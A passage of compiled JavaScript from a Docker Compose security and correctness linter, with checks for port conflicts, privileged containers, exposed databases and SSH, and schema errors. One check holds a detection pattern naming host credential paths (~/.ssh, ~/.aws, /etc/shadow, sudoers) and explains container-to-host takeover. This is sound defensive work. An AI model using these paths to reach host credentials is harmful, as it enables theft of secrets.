        const dir = node_path_1.default.posix.dirname(ctx.file);
        const report = (field, node, at) => {
            if (node?.kind !== 'scalar' || typeof node.value !== 'string' || node.value.includes('$'))
                return;
            if ((0, repository_path_1.resolveInRepository)(dir, node.value) === undefined)
                ctx.report({ messageId: 'outside', data: { field, file: node.value }, at });
        };
        // include: [a.yml] or [{ path: a.yml | [a.yml, b.yml], env_file: x | [x], project_directory }]
        const include = (0, yaml_tree_1.getNode)(ctx.root, ['include']);
        if (include?.kind === 'seq') {
            include.items.forEach((item, i) => {
                if (item.kind === 'scalar')
                    return report('include', item, ['include', i]);
                for (const key of ['path', 'env_file'])
                    (0, _path_fields_1.forEachPath)((0, yaml_tree_1.getNode)(item, [key]), (node, sub) => report(`include ${key}`, node, ['include', i, key, ...sub]));
            });
        }
        const services = (0, yaml_tree_1.getNode)(ctx.root, ['services']);
        if (services?.kind !== 'map')
            return;
        for (const [name, service] of services.entries) {
            // env_file: x | [x | { path: x, required: false }]
            (0, _path_fields_1.forEachPath)((0, yaml_tree_1.getNode)(service, ['env_file']), (node, sub) => report(`service "${name}" env_file`, node, ['services', name, 'env_file', ...sub]));
            report(`service "${name}" extends.file`, (0, yaml_tree_1.getNode)(service, ['extends', 'file']), ['services', name, 'extends', 'file']);
        }
    },
});


/***/ }),

/***/ 58430:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
const node_path_1 = __importDefault(__webpack_require__(76760));
const merge_1 = __webpack_require__(32264);
const yaml_tree_1 = __webpack_require__(43183);
const is_record_1 = __webpack_require__(32789);
const types_1 = __webpack_require__(15200);
const WILDCARD = new Set(['', '0.0.0.0', '::']);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/port-conflict',
    target: 'compose-project',
    meta: {
        title: 'Host port published twice',
        category: 'correctness',
        severity: 'error',
        rationale: 'Two containers cannot bind the same host address and port: the second one fails to start with "port is already allocated", usually only when both stacks land on the same host in that environment, which is where it hurts. Listening on 0.0.0.0 conflicts with every specific address on that port too. Stacks of one environment share its host; without environments (a collection of independent examples), two stacks are taken to share a host only when they join the same external network. The same service in two Compose files of one directory (an image and a build-from-source variant) is one application, not two.',
        remediation: 'Give one of the services another published port (or bind them to different host IPs), or remove the mapping if the port only needs to be reachable on the Compose network.',
        messages: {
            conflict: 'service "{{service}}" publishes host port {{port}}, already published by service "{{other}}" of stack "{{otherStack}}" at {{where}}',
        },
    },
    check(ctx) {
        const seen = [];
        // Without environments nothing says the stacks run on one host, unless they share an external network (created on that host).
        const external = new Map(ctx.stacks.map((s) => [s.name, externalNetworks(s)]));
        const cohosted = (a, b) => a === b || ctx.environment.name !== '' || [...external.get(a)].some((n) => external.get(b).has(n));
        for (const stack of ctx.stacks) {
            for (const p of publishedPorts(stack)) {
                const first = seen.find((s) => s.protocol === p.protocol &&
                    s.from <= p.to &&
                    p.from <= s.to &&
                    (WILDCARD.has(s.hostIp) || WILDCARD.has(p.hostIp) || s.hostIp === p.hostIp) &&
                    cohosted(s.stack, p.stack) &&
                    !isVariant(s, p));
                if (first) {
                    ctx.report({
                        messageId: 'conflict',
                        data: { service: p.service, port: p.text, other: first.service, otherStack: first.stack, where: `${first.loc.file}:${first.loc.line}` },
                        at: p.loc,
                    });
                }
                seen.push(p);
            }
        }
    },
});
/**
 * The same service in two stacks whose files sit in one directory (`docker-compose.yml` and
 * `docker-compose.build.yml`, the image and the build-from-source variant of one application): one
 * runs or the other, so their ports do not meet.
 */
function isVariant(a, b) {
    return a.stack !== b.stack && a.service === b.service && node_path_1.default.posix.dirname(a.loc.file) === node_path_1.default.posix.dirname(b.loc.file);
}
/** Names of the external networks a stack joins (`networks: { proxy: { external: true, name: traefik } }` is traefik). */
function externalNetworks(stack) {
    const networks = (0, yaml_tree_1.toPlain)(stack.node.entries.get('networks'));
    const out = new Set();
    if (!(0, is_record_1.isRecord)(networks))
        return out;
    for (const [key, value] of Object.entries(networks)) {
        if (!(0, is_record_1.isRecord)(value))
            continue;
        const external = value.external;
        if (external === true || external === 'true')
            out.add(typeof value.name === 'string' ? value.name : key);
        else if ((0, is_record_1.isRecord)(external))
            out.add(typeof external.name === 'string' ? external.name : key); // the legacy `external: { name: x }`
    }
    return out;
}
function publishedPorts(stack) {
    const out = [];
    for (const service of stack.services) {
        const ports = service.node.entries.get('ports');
        if (ports?.kind !== 'seq')
            continue;
        for (const item of ports.items) {
            const spec = specOf(item);
            if (!spec)
                continue;
            const range = /^(\d+)(?:-(\d+))?$/.exec(spec.published.trim());
            if (!range)
                continue;
            const from = Number(range[1]);
            const to = range[2] ? Number(range[2]) : from;
            const protocol = (spec.protocol || 'tcp').toLowerCase();
            const text = `${spec.hostIp ? `${spec.hostIp}:` : ''}${spec.published}/${protocol}`;
            out.push({ stack: stack.name, service: service.name, hostIp: spec.hostIp, from, to, protocol, text, loc: item.keyLoc ?? item.loc });
        }
    }
    return out;
}
function specOf(item) {
    if (item.kind === 'scalar') {
        if (item.value === null)
            return undefined;
        const p = (0, merge_1.parsePortSpec)(String(item.value));
        return p && { hostIp: p.hostIp, published: p.published, protocol: p.protocol };
    }
    if (item.kind !== 'map')
        return undefined;
    const text = (k) => {
        const n = item.entries.get(k);
        return n?.kind === 'scalar' && n.value !== null ? String(n.value) : '';
    };
    return { hostIp: text('host_ip'), published: text('published'), protocol: text('protocol') };
}


/***/ }),

/***/ 10341:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/privileged',
    target: 'compose-service',
    meta: {
        title: 'Service runs privileged',
        category: 'security',
        severity: 'error',
        rationale: 'A privileged container has every capability and every host device, and AppArmor/seccomp are off: escaping to the host is trivial. An MCP server never needs it. kube-linter (privileged-container) and Polaris (privilegeEscalationAllowed/privileged) flag it.',
        remediation: 'Remove `privileged: true`; grant the single capability or device the service needs with `cap_add` / `devices`.',
        messages: {
            privileged: 'service "{{service}}" runs privileged',
        },
    },
    check(ctx) {
        const p = ctx.service.value.privileged;
        if (p === true || (typeof p === 'string' && /^(true|yes|on)$/i.test(p.trim()))) {
            ctx.report({ messageId: 'privileged', data: { service: ctx.service.name }, at: ['privileged'] });
        }
    },
});


/***/ }),

/***/ 69663:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const merge_1 = __webpack_require__(32264);
const types_1 = __webpack_require__(15200);
const _image_ref_1 = __webpack_require__(55262);
/** Container ports of services that should only be reachable on the Compose network. */
const INTERNAL_PORTS = {
    5432: 'PostgreSQL',
    3306: 'MySQL/MariaDB',
    6379: 'Redis',
    27017: 'MongoDB',
    9200: 'Elasticsearch/OpenSearch',
    11211: 'Memcached',
    5672: 'RabbitMQ',
    2379: 'etcd',
    9042: 'Cassandra',
    8086: 'InfluxDB',
    9092: 'Kafka',
    2181: 'ZooKeeper',
    4222: 'NATS',
    8123: 'ClickHouse',
};
const INTERNAL_IMAGES = /^(postgres|postgis|timescaledb(-ha)?|pgvector|mysql|mariadb|redis|redis-stack(-server)?|valkey|keydb|mongo|mongodb|elasticsearch|opensearch|memcached|rabbitmq|etcd|cassandra|influxdb|kafka|zookeeper|nats|clickhouse(-server)?|qdrant|weaviate|chromadb|chroma)$/;
const ALL_INTERFACES = new Set(['', '0.0.0.0', '::']);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/published-all-interfaces',
    target: 'compose-service',
    meta: {
        title: 'Internal service is published on every host interface',
        category: 'security',
        severity: 'warning',
        rationale: "Publishing a database or cache port without a host IP binds it on 0.0.0.0, and Docker's iptables rules bypass host firewalls such as ufw: the database is reachable from the internet. Exposed Redis, MongoDB and Elasticsearch instances are found and wiped by scanners within hours. The MCP server reaches them over the Compose network and needs no published port.",
        remediation: 'Remove the `ports:` mapping (use the service name on the Compose network), or bind it to loopback: `"127.0.0.1:5432:5432"`.',
        messages: {
            allInterfaces: 'service "{{service}}" publishes {{what}} port {{port}} on all host interfaces',
        },
    },
    check(ctx) {
        const ports = ctx.service.value.ports;
        if (!Array.isArray(ports))
            return;
        const image = typeof ctx.service.value.image === 'string' ? (0, _image_ref_1.imageBaseName)((0, _image_ref_1.parseImageRef)(ctx.service.value.image.trim()).name) : '';
        const isInternalImage = INTERNAL_IMAGES.test(image);
        ports.forEach((p, i) => {
            const spec = typeof p === 'string' || typeof p === 'number'
                ? (0, merge_1.parsePortSpec)(String(p))
                : p && typeof p === 'object'
                    ? longSpec(p)
                    : undefined;
            if (!spec || !spec.published || !ALL_INTERFACES.has(spec.hostIp))
                return;
            const target = Number(spec.target.split('-')[0]);
            const known = INTERNAL_PORTS[target];
            if (!known && !isInternalImage)
                return;
            ctx.report({
                messageId: 'allInterfaces',
                data: { service: ctx.service.name, what: known ?? image, port: `${spec.published}->${spec.target}` },
                at: ['ports', i],
            });
        });
    },
});
function longSpec(p) {
    const text = (v) => (v === undefined || v === null ? '' : String(v));
    return { hostIp: text(p.host_ip), published: text(p.published), target: text(p.target) };
}


/***/ }),

/***/ 38395:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const _windows_1 = __webpack_require__(55270);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/read-only-rootfs',
    target: 'compose-service',
    meta: {
        title: 'Container root filesystem is writable',
        category: 'security',
        severity: 'info',
        rationale: 'With a writable root filesystem an attacker who gets code execution in the MCP server can drop tools, patch binaries and persist across process restarts. A read-only root with explicit tmpfs/volumes for the paths that must be written also documents where state lives. kube-linter (no-read-only-root-fs) and Polaris (notReadOnlyRootFilesystem) flag the Kubernetes equivalent. Windows containers are not checked (runsWindowsContainer: `platform: windows`, `isolation:`, a Windows base image, the `nat` network or a `windows/` directory): they have no read-only root filesystem in Docker.',
        remediation: 'Set `read_only: true` and mount writable paths explicitly, e.g. `tmpfs: [/tmp]` and a volume for data.',
        messages: {
            writable: 'service "{{service}}" does not set read_only: true',
        },
    },
    check(ctx) {
        if ((0, _windows_1.runsWindowsContainer)(ctx.stack, ctx.service))
            return;
        const ro = ctx.service.value.read_only;
        if (ro === true || (typeof ro === 'string' && /^(true|yes|on)$/i.test(ro.trim())))
            return;
        ctx.report({ messageId: 'writable', data: { service: ctx.service.name }, at: ['read_only'] });
    },
});


/***/ }),

/***/ 44403:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/**
 * Reported by the engine while building the effective stacks. A warning: the value is usually
 * supplied where the stack is deployed. In an environment whose variables are all in the repository
 * (`environments.<env>.variablesComplete: true`) the finding is an error.
 */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'compose/required-variable-missing',
    engine: 'compose-problem',
    meta: {
        title: 'Required variable has no value in the repository',
        category: 'correctness',
        severity: 'warning',
        rationale: 'docker compose refuses to start a stack whose ${VAR:?message} variable is unset; the deploy fails unless the deployment supplies it (a Portainer stack variable, the environment of the deploy job). An environment that declares its variables complete (`variablesComplete: true`) supplies nothing at deploy time, so there the missing value is an error.',
        remediation: 'Make sure the deployment sets the variable (the Portainer stack variables, the deploy job environment); or give it a value in the repository: an env file of the environment or environments.<env>.variables in stackgate.yml.',
        messages: {
            required: '{{detail}}: the repository has no value for it, so it must be supplied where the stack is deployed (the Portainer stack variables, the deploy job environment)',
            requiredComplete: '{{detail}}, and environment {{environment}} declares its variables complete (variablesComplete: true)',
        },
    },
});


/***/ }),

/***/ 98904:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _depends_on_1 = __webpack_require__(41768);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/restart-policy',
    target: 'compose-service',
    meta: {
        title: 'Service does not restart after a crash or reboot',
        category: 'reliability',
        severity: 'warning',
        productionOnly: true,
        rationale: 'Without a restart policy a container that crashes, is OOM-killed or whose host reboots stays down until someone notices; the MCP endpoint is gone while Portainer shows the stack as deployed.',
        remediation: 'Set `restart: unless-stopped` (or `always`) on the service, or `deploy.restart_policy.condition: any` / `on-failure` for Swarm stacks. One-shot jobs that other services wait for (`depends_on: { job: { condition: service_completed_successfully } }`) are not checked.',
        messages: {
            missing: 'service "{{service}}" has no restart policy: it stays down after a crash or host reboot',
            disabled: 'service "{{service}}" disables restarts ({{setting}})',
        },
    },
    check(ctx) {
        // A one-shot job (an init or migration container others wait for to complete) must not restart.
        if ((0, _depends_on_1.isOneShotJob)(ctx.stack.services, ctx.service.name))
            return;
        const v = ctx.service.value;
        const data = { service: ctx.service.name };
        const restart = v.restart;
        if (restart === false || (typeof restart === 'string' && restart.trim().toLowerCase() === 'no')) {
            ctx.report({ messageId: 'disabled', data: { ...data, setting: 'restart: "no"' }, at: ['restart'] });
            return;
        }
        if (restart !== undefined && restart !== null && restart !== '')
            return;
        const deploy = v.deploy && typeof v.deploy === 'object' ? v.deploy : undefined;
        const policy = deploy?.restart_policy;
        if (policy && typeof policy === 'object') {
            const condition = policy.condition;
            if (condition === 'none')
                ctx.report({
                    messageId: 'disabled',
                    data: { ...data, setting: 'deploy.restart_policy.condition: none' },
                    at: ['deploy', 'restart_policy', 'condition'],
                });
            return;
        }
        ctx.report({ messageId: 'missing', data, at: [] });
    },
});


/***/ }),

/***/ 57387:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
/**
 * Validity of each Compose file as written against the official Compose Specification JSON schema
 * (vendored in schema/vendor/, Apache-2.0). ajv's raw errors are noisy around oneOf/anyOf, so they
 * are reduced to the most specific problem per field before they are reported.
 */
const ajv_1 = __importDefault(__webpack_require__(42463));
const compose_spec_schema_json_1 = __importDefault(__webpack_require__(14766));
const did_you_mean_1 = __webpack_require__(87568);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
/**
 * The spec types many scalars as `[integer, string]` so that `${VAR}` can be used; a literal
 * such as `replicas: "three"` would then pass. These patterns (string branch only) accept numbers,
 * booleans and anything interpolated, and reject the rest.
 */
const SCALAR_PATTERNS = {
    integer: { pattern: '^\\s*[-+]?\\d+\\s*$|\\$', expected: 'an integer or a ${VARIABLE}' },
    number: { pattern: '^\\s*[-+]?(\\d+\\.?\\d*|\\.\\d+)([eE][-+]?\\d+)?\\s*$|\\$', expected: 'a number or a ${VARIABLE}' },
    boolean: { pattern: '^(true|True|TRUE|false|False|FALSE|yes|Yes|YES|no|No|NO|on|On|ON|off|Off|OFF|y|Y|n|N)$|\\$', expected: 'a boolean or a ${VARIABLE}' },
};
const EXPECTED_BY_PATTERN = new Map(Object.values(SCALAR_PATTERNS).map((p) => [p.pattern, p.expected]));
/** Fields typed number|string that also take sizes or durations ("512m", "400ms"). */
const UNITS_ALLOWED = new Set(['mem_limit', 'memswap_limit', 'shm_size', 'cpu_period', 'cpu_rt_period', 'cpu_rt_runtime', 'rate', 'mem_reservation']);
let validator;
function compileOnce() {
    if (!validator) {
        // code.optimize: false skips ajv's clean-up passes over the generated code: the validator
        // accepts and rejects the same documents, compiles in about 60% of the time (a start-up cost of
        // every run that checks Compose) and validates a few percent slower.
        const ajv = new ajv_1.default({ allErrors: true, strict: false, verbose: true, validateFormats: false, logger: false, code: { optimize: false } });
        validator = ajv.compile(prepareSchema(compose_spec_schema_json_1.default, ''));
    }
    return validator;
}
/**
 * A copy of the spec without `$schema` (an https draft-07 URI ajv does not know) and with scalar
 * patterns added. `name` is the property a schema describes; `isContainer` marks a map of named schemas.
 */
function prepareSchema(node, name, isContainer = false) {
    if (Array.isArray(node))
        return node.map((n) => prepareSchema(n, ''));
    if (!node || typeof node !== 'object')
        return node;
    const out = {};
    for (const [k, v] of Object.entries(node)) {
        if (k === '$schema')
            continue;
        if (isContainer)
            out[k] = prepareSchema(v, k);
        else
            out[k] = prepareSchema(v, '', k === 'properties' || k === 'patternProperties' || k === 'definitions');
    }
    const type = out.type;
    if (!isContainer &&
        Array.isArray(type) &&
        type.length === 2 &&
        type[1] === 'string' &&
        typeof type[0] === 'string' &&
        out.pattern === undefined &&
        !UNITS_ALLOWED.has(name)) {
        const p = SCALAR_PATTERNS[type[0]];
        if (p)
            out.pattern = p.pattern;
    }
    return out;
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/schema',
    target: 'compose-file',
    meta: {
        title: 'Compose file does not match the Compose Specification',
        category: 'correctness',
        severity: 'error',
        rationale: 'docker compose and Portainer refuse a file with unknown keys or wrong types at deploy time, often only on the production host; a typo such as `healtcheck` is silently never applied by older tools. Validating against the official Compose Specification schema (as dclint and `docker compose config` do) catches it in review.',
        remediation: 'Fix the key or value named in the message (see https://docs.docker.com/reference/compose-file/); custom keys must start with `x-`.',
        messages: {
            unknownKey: '{{path}}: unknown key "{{key}}"{{hint}}',
            invalid: '{{path}}: {{problem}}',
        },
    },
    check(ctx) {
        const validate = compileOnce();
        if (validate(toPlainWithoutResets(ctx.root)))
            return;
        for (const problem of reduceErrors(validate.errors ?? [])) {
            const treePath = (0, yaml_tree_1.segmentsToPath)(ctx.root, problem.pointer);
            const path = (0, yaml_tree_1.formatPath)(treePath) || '(top level)';
            if (problem.unknownKey !== undefined) {
                const suggestion = (0, did_you_mean_1.suggest)(problem.unknownKey, problem.allowed.filter((k) => k !== problem.unknownKey));
                ctx.report({
                    messageId: 'unknownKey',
                    data: { path, key: problem.unknownKey, hint: suggestion ? `; did you mean "${suggestion}"?` : '' },
                    at: [...treePath, problem.unknownKey],
                });
            }
            else {
                ctx.report({ messageId: 'invalid', data: { path, problem: problem.text }, at: treePath });
            }
        }
    },
});
const BRANCH_NOISE = new Set(['type', 'const', 'enum', 'oneOf', 'anyOf', 'if', 'pattern', 'required', 'additionalProperties', 'not']);
/** The most specific error per field: branches of a oneOf/anyOf that failed on the type give way to the branch that went deeper. */
function reduceErrors(errors) {
    const items = errors.map((e) => {
        const pointer = e.instancePath
            .split('/')
            .slice(1)
            .map((s) => s.replace(/~1/g, '/').replace(/~0/g, '~'));
        const unknownKey = e.keyword === 'additionalProperties' ? String(e.params.additionalProperty) : undefined;
        return { e, pointer, unknownKey, effective: unknownKey !== undefined ? [...pointer, unknownKey] : pointer };
    });
    const isUnder = (inner, outer) => inner.length > outer.length && outer.every((s, i) => inner[i] === s);
    // An error at a path is noise from a failed alternative when another error went deeper under it:
    // that deeper one comes from the alternative whose shape matched.
    const composites = items.filter((i) => i.e.keyword === 'oneOf' || i.e.keyword === 'anyOf');
    const inComposite = (i) => composites.some((c) => c !== i && i.pointer.length >= c.pointer.length && c.pointer.every((s, k) => i.pointer[k] === s));
    const kept = items.filter((i) => {
        if (i.e.keyword === 'if')
            return false;
        if (!BRANCH_NOISE.has(i.e.keyword) || i.unknownKey !== undefined)
            return true;
        if (!inComposite(i) && i.e.keyword !== 'oneOf' && i.e.keyword !== 'anyOf')
            return true;
        return !items.some((o) => o !== i && isUnder(o.effective, i.pointer));
    });
    const byPath = new Map();
    for (const i of kept) {
        const k = JSON.stringify(i.effective);
        byPath.set(k, [...(byPath.get(k) ?? []), i]);
    }
    const out = [];
    for (const group of byPath.values()) {
        const first = group[0];
        if (first.unknownKey !== undefined) {
            const parent = first.e.parentSchema;
            out.push({ pointer: first.pointer, unknownKey: first.unknownKey, allowed: Object.keys(parent?.properties ?? {}), text: '' });
            continue;
        }
        const specific = group.filter((i) => i.e.keyword !== 'oneOf' && i.e.keyword !== 'anyOf');
        const chosen = specific.length ? specific : group;
        out.push({ pointer: first.pointer, allowed: [], text: describe(chosen.map((i) => i.e)) });
    }
    return out;
}
function describe(errors) {
    const types = new Set();
    for (const e of errors) {
        if (e.keyword === 'type')
            String(e.params.type)
                .split(',')
                .forEach((t) => types.add(t));
        if (e.keyword === 'pattern') {
            const expected = EXPECTED_BY_PATTERN.get(String(e.params.pattern));
            if (expected)
                return `must be ${expected}, got ${JSON.stringify(String(e.data).slice(0, 40))}`;
        }
    }
    // JSON Schema's `null` is an empty value in YAML (`key:` or `key: ~`).
    if (types.size)
        return `must be ${[...types].map((t) => (t === 'null' ? 'empty' : t)).join(' or ')}`;
    const e = errors[0];
    if (e.keyword === 'enum')
        return `must be one of ${(e.params.allowedValues ?? []).map((v) => JSON.stringify(v)).join(', ')}`;
    if (e.keyword === 'oneOf' || e.keyword === 'anyOf')
        return 'does not match any allowed form';
    return e.message ?? 'is invalid';
}
/** The plain value, without entries tagged `!reset` (an override's way to delete a key; its value is not a definition). */
function toPlainWithoutResets(node) {
    switch (node.kind) {
        case 'scalar':
            return node.value;
        case 'seq':
            return node.items.filter((i) => i.tag !== '!reset').map(toPlainWithoutResets);
        case 'map': {
            const out = {};
            for (const [k, v] of node.entries)
                if (v.tag !== '!reset')
                    out[k] = toPlainWithoutResets(v);
            return out;
        }
    }
}


/***/ }),

/***/ 19853:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _volume_mounts_1 = __webpack_require__(16068);
/** Host directories whose writable mount lets a container change the host itself. */
const SYSTEM_DIRS = new Set([
    '/',
    '/etc',
    '/root',
    '/proc',
    '/sys',
    '/boot',
    '/dev',
    '/usr',
    '/lib',
    '/lib64',
    '/bin',
    '/sbin',
    '/var',
    '/var/lib',
    '/var/lib/docker',
    '/var/lib/containerd',
    '/var/lib/kubelet',
    '/var/run',
    '/run',
    '/home',
    '/etc/docker',
    '/etc/systemd',
    '/etc/kubernetes',
]);
/**
 * Credentials: even a read-only mount hands them out. root's home and its dotfiles are; a directory
 * an application keeps under it (`/root/n8n/.n8n`) is that application's data, not root's.
 */
const CREDENTIALS = /(^|\/)\.(ssh|aws|kube|docker|gnupg|azure|config\/gcloud)(\/|$)|^\/root\/?$|^\/root\/\.|^\/etc\/(shadow|gshadow|sudoers|ssh)(\/|$)/;
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/sensitive-host-mount',
    target: 'compose-service',
    meta: {
        title: 'Service mounts a sensitive host path',
        category: 'security',
        severity: 'error',
        rationale: "A writable bind mount of /, /etc, /root, /proc, /sys or /var/lib/docker lets a compromised container rewrite host configuration (cron, systemd units, sudoers) and take over the host; a mount of ~/.ssh, ~/.aws or ~/.kube hands out the host's credentials even read-only. Read-only mounts of system directories (node-exporter's /proc and /sys) are not reported. kube-linter (sensitive-host-mounts) and Polaris (hostPathSet) flag the Kubernetes equivalent.",
        remediation: 'Mount only the file or sub-directory the service needs, read-only (`/etc/localtime:/etc/localtime:ro`), or use a named volume; pass credentials as Compose secrets instead of mounting credential directories.',
        messages: {
            writable: 'service "{{service}}" mounts host path {{source}} writable',
            credentials: 'service "{{service}}" mounts host credentials from {{source}}',
        },
    },
    check(ctx) {
        for (const m of (0, _volume_mounts_1.volumeMountsOf)(ctx.service.value.volumes)) {
            if (m.type !== 'bind' || !m.source)
                continue;
            const source = (0, _volume_mounts_1.normalizeHostPath)(m.source);
            const data = { service: ctx.service.name, source };
            if (CREDENTIALS.test(source))
                ctx.report({ messageId: 'credentials', data, at: ['volumes', m.index] });
            else if (SYSTEM_DIRS.has(source) && !m.isReadOnly)
                ctx.report({ messageId: 'writable', data, at: ['volumes', m.index] });
        }
    },
});


/***/ }),

/***/ 75930:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const merge_1 = __webpack_require__(32264);
const types_1 = __webpack_require__(15200);
/** Whether a container port (`22`, `20-25`) includes SSH's 22. */
function includesSsh(target) {
    const m = /^(\d+)(?:-(\d+))?$/.exec(target.trim());
    if (!m)
        return false;
    const from = Number(m[1]);
    const to = m[2] !== undefined ? Number(m[2]) : from;
    return from <= 22 && 22 <= to;
}
function scalarText(node) {
    return node?.kind === 'scalar' && (typeof node.value === 'string' || typeof node.value === 'number') ? String(node.value) : undefined;
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/ssh-port',
    target: 'compose-service',
    meta: {
        title: 'SSH port 22 exposed',
        category: 'security',
        severity: 'warning',
        rationale: 'A service that publishes or exposes container port 22 runs an SSH server next to the MCP server: another way in, with its own keys and passwords to manage, that bypasses `docker exec` and its audit trail. Published, it is reachable by anyone who can reach the host. kube-linter (ssh-port) flags the same for Kubernetes.',
        remediation: 'Remove the SSH daemon from the image and use `docker exec` for access. A Git server that serves SSH on purpose can suppress the finding with a comment saying so.',
        messages: {
            published: 'service "{{service}}" publishes container port 22 (SSH) as {{spec}}',
            exposed: 'service "{{service}}" exposes container port 22 (SSH)',
        },
    },
    check(ctx) {
        const service = ctx.service.node;
        const ports = service.entries.get('ports');
        if (ports?.kind === 'seq') {
            ports.items.forEach((item, i) => {
                let target;
                let spec;
                if (item.kind === 'map') {
                    target = scalarText(item.entries.get('target'));
                    const published = scalarText(item.entries.get('published'));
                    spec = published ? `${published}:${target ?? '?'}` : (target ?? '?');
                }
                else {
                    spec = scalarText(item) ?? '';
                    target = (0, merge_1.parsePortSpec)(spec)?.target;
                }
                if (target !== undefined && includesSsh(target))
                    ctx.report({ messageId: 'published', data: { service: ctx.service.name, spec: `"${spec}"` }, at: ['ports', i] });
            });
        }
        const expose = service.entries.get('expose');
        if (expose?.kind === 'seq') {
            expose.items.forEach((item, i) => {
                const text = scalarText(item);
                if (text !== undefined && includesSsh(text.replace(/\/\w+$/, '')))
                    ctx.report({ messageId: 'exposed', data: { service: ctx.service.name }, at: ['expose', i] });
            });
        }
    },
});


/***/ }),

/***/ 56114:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const did_you_mean_1 = __webpack_require__(87568);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const _volume_mounts_1 = __webpack_require__(16068);
const SINGULAR = { networks: 'network', volumes: 'volume', secrets: 'secret', configs: 'config' };
/** The networks, named volumes, secrets and configs a service refers to, with their paths in the service. */
function referencesOf(service) {
    if (service.kind !== 'map')
        return [];
    const out = [];
    const networks = service.entries.get('networks');
    if (networks?.kind === 'seq') {
        networks.items.forEach((n, i) => {
            if (n.kind === 'scalar' && typeof n.value === 'string' && n.value)
                out.push({ section: 'networks', name: n.value, path: ['networks', i] });
        });
    }
    else if (networks?.kind === 'map') {
        for (const name of networks.entries.keys())
            out.push({ section: 'networks', name, path: ['networks', name] });
    }
    const volumes = service.entries.get('volumes');
    for (const m of (0, _volume_mounts_1.volumeMountsOf)(volumes ? (0, yaml_tree_1.toPlain)(volumes) : undefined)) {
        // Only named volumes are declared at the top level; binds, tmpfs and anonymous volumes are not.
        if (m.type === 'volume' && m.source && !m.source.includes('$'))
            out.push({ section: 'volumes', name: m.source, path: ['volumes', m.index] });
    }
    for (const section of ['secrets', 'configs']) {
        const list = service.entries.get(section);
        if (list?.kind !== 'seq')
            continue;
        list.items.forEach((item, i) => {
            if (item.kind === 'scalar' && typeof item.value === 'string' && item.value)
                out.push({ section, name: item.value, path: [section, i] });
            if (item.kind === 'map') {
                const source = item.entries.get('source');
                if (source?.kind === 'scalar' && typeof source.value === 'string' && source.value)
                    out.push({ section, name: source.value, path: [section, i, 'source'] });
            }
        });
    }
    return out;
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/undefined-reference',
    target: 'compose-service',
    meta: {
        title: 'Service uses a network, volume, secret or config the file does not declare',
        category: 'correctness',
        severity: 'error',
        rationale: '`docker compose up` refuses the whole stack ("service "web" refers to undefined network backend", "undefined volume", "undefined secret") when a service names a network, named volume, secret or config that the top-level `networks`, `volumes`, `secrets` or `configs` section does not declare; usually a typo or a declaration that an override removed. dclint reports it.',
        remediation: 'Declare it at the top level (`volumes: { pgdata: {} }`, `networks: { backend: {} }`, `secrets: { api_token: { file: ./secrets/api_token } }`), use `external: true` for one created outside the stack, or fix the name.',
        messages: {
            undefined: 'service "{{service}}" uses {{kind}} "{{name}}", which the top-level {{section}} of stack "{{stack}}" does not declare{{hint}}',
        },
    },
    check(ctx) {
        const top = ctx.stack.node;
        // Declarations may come from included files, which are not part of the effective stack.
        if (top.entries.has('include'))
            return;
        for (const ref of referencesOf(ctx.service.node)) {
            if (ref.section === 'networks' && ref.name === 'default')
                continue;
            const declared = top.entries.get(ref.section);
            const names = declared?.kind === 'map' ? [...declared.entries.keys()] : [];
            if (names.includes(ref.name))
                continue;
            const suggestion = (0, did_you_mean_1.suggest)(ref.name, names);
            ctx.report({
                messageId: 'undefined',
                data: {
                    service: ctx.service.name,
                    kind: SINGULAR[ref.section],
                    name: ref.name,
                    section: ref.section,
                    stack: ctx.stack.name,
                    hint: suggestion ? `; did you mean "${suggestion}"?` : '',
                },
                at: ref.path,
            });
        }
    },
});


/***/ }),

/***/ 2515:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine while building the effective stacks. */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'compose/undefined-variable',
    engine: 'compose-problem',
    meta: {
        title: 'Interpolated variable is not set',
        category: 'correctness',
        severity: 'warning',
        rationale: 'An unset ${VAR} silently becomes an empty string, so an image tag, port or password may be blank in the deployed stack.',
